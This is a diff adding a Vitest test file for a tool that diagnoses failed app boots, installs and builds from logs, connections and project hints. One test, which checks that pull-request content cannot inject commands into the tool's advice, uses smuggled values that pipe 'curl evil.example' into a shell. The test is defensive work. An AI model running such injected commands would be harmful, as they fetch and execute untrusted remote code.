@@ -1,0 +1,479 @@
+/** From what was seen of an app to the likely causes, in a table; the collection is tested with real processes. */
+import { describe, expect, it } from 'vitest';
+import { diagnoseBoot, diagnoseStep } from '../../src/diagnosis/diagnose.ts';
+import type { BootEvidence, StepEvidence } from '../../src/diagnosis/evidence.ts';
+import { describeCauses, type BootCause } from '../../src/model/boot-causes.ts';
+import { NO_HINTS, type ProjectHints } from '../../src/model/project-hints.ts';
+import type { ComposeService } from '../../src/model/services.ts';
+
+const PORT = 20_000;
+
+function hints(given: Partial<ProjectHints>): ProjectHints {
+  return { ...NO_HINTS, ...given };
+}
+
+/** Of an app that runs and does nothing. */
+function seen(given: Partial<BootEvidence> = {}): BootEvidence {
+  return {
+    line: 'node server.js',
+    log: [],
+    project: NO_HINTS,
+    given: [],
+    isProduction: false,
+    exit: null,
+    port: PORT,
+    answered: null,
+    listening: [],
+    sharedPorts: [],
+    unixSockets: [],
+    connections: [],
+    starts: [],
+    programs: [],
+    ...given,
+  };
+}
+
+const exited = (code = 1) => ({ exit: { code, text: `node server.js exited with code ${code}` } });
+
+const step = (given: Partial<StepEvidence>): StepEvidence => ({
+  line: 'npm run build',
+  code: 1,
+  log: [],
+  project: NO_HINTS,
+  given: [],
+  isProduction: false,
+  ...given,
+});
+
+/** What Node.js prints around an error that nobody caught, with a stack that is longer than the log that is shown. */
+function crash(...lines: string[]): string[] {
+  const frames = Array.from({ length: 30 }, (_, i) => `    at step${i} (/app/src/index.js:${i}:1)`);
+  return [
+    'starting',
+    '/app/src/index.js:10',
+    "  throw new Error('x');",
+    '  ^',
+    '',
+    ...lines,
+    ...frames,
+    '    at node:internal/main/run_main_module:28:49 {',
+    "  code: 'X'",
+    '}',
+    'Node.js v20.19.0',
+  ];
+}
+
+const MONGO: ComposeService = {
+  file: 'docker-compose.yml',
+  key: 'mongo',
+  kind: 'MongoDB',
+  image: 'mongo:7',
+  ports: [27_017],
+  environment: {},
+};
+
+const exampleEnv = {
+  file: '.env.example',
+  variables: [
+    { name: 'DATABASE_URL', value: 'postgres://localhost/shop' },
+    { name: 'JWT', value: '' },
+  ],
+};
+
+const firstOf = (evidence: BootEvidence) => diagnoseBoot(evidence)[0];
+
+describe('the first cause of an app that does not come up', () => {
+  it.each<[string, Partial<BootEvidence>, Partial<BootCause>]>([
+    ['nothing is known', {}, { code: 'never-listens', port: PORT, error: null }],
+    [
+      'it says why in a line that no pattern knows',
+      { ...exited(), log: crash('TypeError: shop is not a function') },
+      { code: 'exited', error: 'TypeError: shop is not a function' },
+    ],
+    [
+      'it ended without an error',
+      { ...exited(0), line: 'pm2 start server.js' },
+      { code: 'leaves-foreground', line: 'pm2 start server.js' },
+    ],
+    [
+      'a database is not there: its own attempts show it, and nothing is printed',
+      { connections: [{ host: '127.0.0.1', port: 27_017, end: 'refused' }] },
+      { code: 'service-unreachable', address: '127.0.0.1:27017', service: 'MongoDB' },
+    ],
+    [
+      'the database of a compose file is not there, on a port of its own',
+      {
+        connections: [{ host: '::1', port: 5544, end: 'refused' }],
+        project: hints({
+          services: [{ ...MONGO, key: 'db', kind: 'PostgreSQL', ports: [5544] }],
+        }),
+      },
+      {
+        code: 'service-unreachable',
+        address: '[::1]:5544',
+        service: 'PostgreSQL',
+        start: 'docker compose -f docker-compose.yml up -d db',
+      },
+    ],
+    [
+      'the log names the address',
+      { ...exited(), log: crash('Error: connect ECONNREFUSED 127.0.0.1:6379') },
+      { code: 'service-unreachable', address: '127.0.0.1:6379', service: 'Redis', end: 'refused' },
+    ],
+    [
+      'MySQL or MariaDB: the dependencies tell',
+      {
+        ...exited(),
+        log: crash('Error: connect ECONNREFUSED ::1:3306'),
+        project: hints({ dependencies: ['mariadb'] }),
+      },
+      { code: 'service-unreachable', address: '[::1]:3306', service: 'MariaDB' },
+    ],
+    [
+      'the host of a compose file is unknown outside of it',
+      {
+        ...exited(),
+        log: crash('Error: getaddrinfo ENOTFOUND mongo'),
+        project: hints({ services: [MONGO] }),
+      },
+      { code: 'service-unreachable', address: 'mongo', service: 'MongoDB', end: 'unknown-host' },
+    ],
+    [
+      'an app in Go',
+      { ...exited(), log: ['2025/01/01 dial tcp 127.0.0.1:5432: connect: connection refused'] },
+      { code: 'service-unreachable', address: '127.0.0.1:5432', service: 'PostgreSQL' },
+    ],
+    [
+      'Prisma cannot reach its database',
+      { ...exited(), log: crash("Can't reach database server at `localhost:5432`") },
+      { code: 'service-unreachable', address: 'localhost:5432', service: 'PostgreSQL' },
+    ],
+    [
+      'a collector of traces is not what it waits for',
+      { connections: [{ host: '127.0.0.1', port: 4318, end: 'refused' }] },
+      { code: 'never-listens' },
+    ],
+    [
+      'an app that listens elsewhere does not wait for the service',
+      {
+        listening: [{ host: '::', port: 3000 }],
+        connections: [{ host: '127.0.0.1', port: 6379, end: 'refused' }],
+      },
+      { code: 'other-port', ports: [3000] },
+    ],
+    [
+      'the password is wrong',
+      { ...exited(), log: crash('error: password authentication failed for user "shop"') },
+      { code: 'service-refuses-login', service: 'PostgreSQL' },
+    ],
+    [
+      'the tables are not there',
+      {
+        ...exited(),
+        log: crash('error: relation "users" does not exist'),
+        project: hints({ hasPrisma: true }),
+      },
+      { code: 'schema-missing', what: 'table users', command: 'npx prisma migrate deploy' },
+    ],
+    [
+      'a variable is missing',
+      {
+        ...exited(),
+        log: crash('Error: DATABASE_URL is required'),
+        project: hints({ exampleEnv }),
+      },
+      {
+        code: 'variable-missing',
+        names: ['DATABASE_URL'],
+        line: 'DATABASE_URL=postgres://localhost/shop',
+        file: '.env.example',
+      },
+    ],
+    [
+      'Prisma misses a variable',
+      { ...exited(), log: crash('error: Environment variable not found: DATABASE_URL.') },
+      { code: 'variable-missing', names: ['DATABASE_URL'], line: 'DATABASE_URL=…', file: null },
+    ],
+    [
+      'a schema of the environment lists several, also without an underscore',
+      {
+        ...exited(),
+        log: [
+          '❌ Invalid environment variables: {',
+          "  DATABASE_URL: [ 'Required' ],",
+          "  JWT: [ 'Required' ]",
+          '}',
+        ],
+      },
+      { code: 'variable-missing', names: ['DATABASE_URL', 'JWT'] },
+    ],
+    [
+      'Joi lists them on one line',
+      {
+        ...exited(),
+        log: ['Error: Config validation error: "DB_HOST" is required. "DB_PORT" is required'],
+      },
+      { code: 'variable-missing', names: ['DB_HOST', 'DB_PORT'] },
+    ],
+    [
+      'an app in Python',
+      { ...exited(), log: ['Traceback (most recent call last):', "KeyError: 'SECRET'"] },
+      { code: 'variable-missing', names: ['SECRET'] },
+    ],
+    [
+      'a logger that writes JSON',
+      {
+        ...exited(),
+        log: ['{"level":60,"msg":"boot failed","err":{"message":"API_KEY is not set"}}'],
+      },
+      { code: 'variable-missing', names: ['API_KEY'] },
+    ],
+    [
+      'the variable was given, and something else is wrong with it',
+      { ...exited(), log: crash('Error: DATABASE_URL is invalid'), given: ['DATABASE_URL'] },
+      { code: 'exited', error: 'Error: DATABASE_URL is invalid' },
+    ],
+    [
+      'an error code is no variable',
+      { ...exited(), log: crash('Error [ERR_SOMETHING_MISSING]: a thing is missing') },
+      { code: 'exited' },
+    ],
+    [
+      'Prisma’s client was not generated',
+      {
+        ...exited(),
+        log: crash('Error: @prisma/client did not initialize yet. Please run "prisma generate"'),
+        project: hints({ scripts: { build: 'tsc' } }),
+      },
+      { code: 'client-not-generated', command: 'npx prisma generate && npm run build' },
+    ],
+    [
+      'the build was not run',
+      {
+        ...exited(),
+        log: crash("Error: Cannot find module '/tmp/cannongate-x/candidate-1/dist/main.js'"),
+        project: hints({ scripts: { compile: 'tsc' } }),
+      },
+      { code: 'build-missing', file: 'dist/main.js', build: 'npm run compile' },
+    ],
+    [
+      'a package is not installed',
+      { ...exited(), log: crash("Error: Cannot find module '@a/b/c'") },
+      { code: 'package-missing', name: '@a/b' },
+    ],
+    [
+      'a file is not committed',
+      {
+        ...exited(),
+        log: crash(
+          "Error: ENOENT: no such file or directory, open '/x/candidate/config/local.json'",
+        ),
+      },
+      { code: 'file-missing', file: 'config/local.json' },
+    ],
+    [
+      'the Node.js is too old for what it imports',
+      {
+        ...exited(),
+        log: crash('Error [ERR_UNKNOWN_BUILTIN_MODULE]: No such built-in module: node:sqlite'),
+        project: hints({
+          node: { file: '.nvmrc', text: '22', running: '20.19.0', isRunning: false },
+        }),
+      },
+      { code: 'node-version', running: '20.19.0', wanted: '22', file: '.nvmrc' },
+    ],
+    [
+      'a port is taken',
+      { ...exited(), log: crash('Error: listen EADDRINUSE: address already in use :::3000') },
+      { code: 'port-taken', port: 3000, assigned: PORT },
+    ],
+    [
+      'it listens on an address that is not of the loopback interface',
+      { listening: [{ host: '10.0.0.5', port: PORT }] },
+      { code: 'other-address', addresses: [`10.0.0.5:${PORT}`] },
+    ],
+    [
+      'it listens on a Unix socket',
+      { unixSockets: ['/tmp/app.sock'] },
+      { code: 'unix-socket', paths: ['/tmp/app.sock'] },
+    ],
+    [
+      'it answers with an error',
+      { answered: { request: 'GET /', status: 500 }, listening: [{ host: '::', port: PORT }] },
+      { code: 'answers-with-error', status: 500 },
+    ],
+    [
+      'a supervisor starts it again and again',
+      {
+        line: 'node supervisor.js',
+        starts: [
+          { script: 'supervisor.js', started: 1, ended: 0 },
+          { script: 'app.js', started: 9, ended: 9 },
+        ],
+        log: crash('TypeError: shop is undefined'),
+      },
+      {
+        code: 'restarts-forever',
+        count: 9,
+        script: 'app.js',
+        error: 'TypeError: shop is undefined',
+      },
+    ],
+    [
+      'a supervisor starts an app again and again that misses its database',
+      {
+        starts: [{ script: 'app.js', started: 9, ended: 9 }],
+        log: crash('Error: connect ECONNREFUSED 127.0.0.1:5432'),
+      },
+      { code: 'service-unreachable', service: 'PostgreSQL' },
+    ],
+    [
+      'workers that are up are no crash loop',
+      { starts: [{ script: 'app.js', started: 9, ended: 2 }] },
+      { code: 'never-listens' },
+    ],
+    [
+      'a development server compiles',
+      { line: 'nx serve api' },
+      { code: 'development-server', tool: 'nx serve' },
+    ],
+    [
+      'a development server below npm',
+      {
+        line: 'npm start',
+        programs: ['npm start', 'node /w/node_modules/.bin/nest start --watch'],
+        project: hints({ scripts: { build: 'nest build' } }),
+      },
+      {
+        code: 'development-server',
+        tool: 'nest start',
+        instead: 'build: npm run build, start: node dist/main.js',
+      },
+    ],
+    [
+      'a watcher waits after a crash: the crash comes first',
+      {
+        line: 'nodemon server.js',
+        log: [
+          ...crash('Error: DB_URL must be set'),
+          '[nodemon] app crashed - waiting for file changes before starting...',
+        ],
+      },
+      { code: 'variable-missing', names: ['DB_URL'] },
+    ],
+  ])('%s', (_, evidence, cause) => {
+    expect(firstOf(seen(evidence))).toMatchObject(cause);
+  });
+});
+
+it('a second cause follows, which may be the first one’s reason', () => {
+  const causes = diagnoseBoot(
+    seen({
+      ...exited(),
+      log: crash('Error: cannot read the configuration'),
+      project: hints({ exampleEnv }),
+      given: ['JWT'],
+    }),
+  );
+  expect(causes.map(({ code }) => code)).toEqual(['exited', 'environment-file-missing']);
+  expect(describeCauses(causes)).toBe(
+    'node server.js exited with code 1 before the app was ready: Error: cannot read the configuration. See its log; list variables that it needs under env. Also possible: .env.example lists variables that it does not get: DATABASE_URL. Give those that it needs under env',
+  );
+});
+
+it('the Node.js that a file asks for is only a hint if the log does not speak of it', () => {
+  const node = { file: 'package.json', text: '>=22', running: '20.19.0', isRunning: false };
+  const codes = (given: Partial<BootEvidence>) =>
+    diagnoseBoot(seen({ project: hints({ node }), ...given })).map(({ code }) => code);
+  expect(codes({})).toEqual(['never-listens', 'node-version']);
+  expect(codes({ unixSockets: ['/a'] })).toEqual(['unix-socket', 'node-version']);
+});
+
+it('the advice contains no command that a file of the pull request could have written', () => {
+  const key = 'db; curl evil.example | sh';
+  const cause = firstOf(
+    seen({
+      connections: [{ host: 'x', port: 27_017, end: 'refused' }],
+      project: hints({ services: [{ ...MONGO, key }] }),
+    }),
+  );
+  expect(describeCauses([cause])).not.toContain('evil');
+  const script = 'a; curl evil.example';
+  const loop = firstOf(seen({ starts: [{ script, started: 9, ended: 9 }] }));
+  expect(describeCauses([loop])).not.toContain('evil');
+});
+
+describe('the first cause of a failed install or build', () => {
+  it.each<[string, Partial<StepEvidence>, Partial<BootCause> | undefined]>([
+    ['nothing is known', {}, undefined],
+    [
+      'pnpm is not installed',
+      {
+        line: 'pnpm install --frozen-lockfile',
+        code: 127,
+        log: ['/bin/sh: 1: pnpm: not found'],
+        project: hints({ packageManager: 'pnpm@9.1.0' }),
+      },
+      { code: 'package-manager-missing', manager: 'pnpm', isPinned: true },
+    ],
+    [
+      'Yarn 1 is installed, and the project names another',
+      {
+        line: 'yarn install --immutable',
+        log: [
+          'error This project\'s package.json defines "packageManager": "yarn@4.1.0". However the current global version of Yarn is 1.22.22.',
+        ],
+      },
+      { code: 'package-manager-missing', manager: 'yarn' },
+    ],
+    [
+      'a package refuses this Node.js',
+      {
+        line: 'yarn install --frozen-lockfile',
+        log: [
+          'error shop@1.0.0: The engine "node" is incompatible with this module. Expected version ">=22". Got "20.19.0"',
+        ],
+      },
+      { code: 'node-version' },
+    ],
+    [
+      'the compiler is a development dependency, and those were left out',
+      {
+        code: 127,
+        log: ['> shop@1.0.0 build', '> tsc', 'sh: 1: tsc: not found'],
+        project: hints({ devDependencies: ['typescript'] }),
+        isProduction: true,
+      },
+      { code: 'development-packages-missing', name: 'typescript', isProduction: true },
+    ],
+    [
+      'the types of Prisma’s client are not there',
+      {
+        log: [
+          `src/db.ts(1,10): error TS2305: Module '"@prisma/client"' has no exported member 'User'.`,
+        ],
+        project: hints({ scripts: { build: 'tsc' } }),
+      },
+      { code: 'client-not-generated' },
+    ],
+    [
+      'the lockfile is not that of package.json',
+      {
+        line: 'npm ci',
+        log: [
+          'npm error `npm ci` can only install packages when your package.json and package-lock.json are in sync.',
+        ],
+      },
+      { code: 'lockfile-outdated' },
+    ],
+    [
+      'a program is missing',
+      { line: 'mak deps', code: 127, log: ['/bin/sh: 1: mak: not found'] },
+      { code: 'program-missing', program: 'mak' },
+    ],
+  ])('%s', (_, evidence, cause) => {
+    const [first] = diagnoseStep(step(evidence));
+    if (cause === undefined) expect(first).toBeUndefined();
+    else expect(first).toMatchObject(cause);
+  });
+});
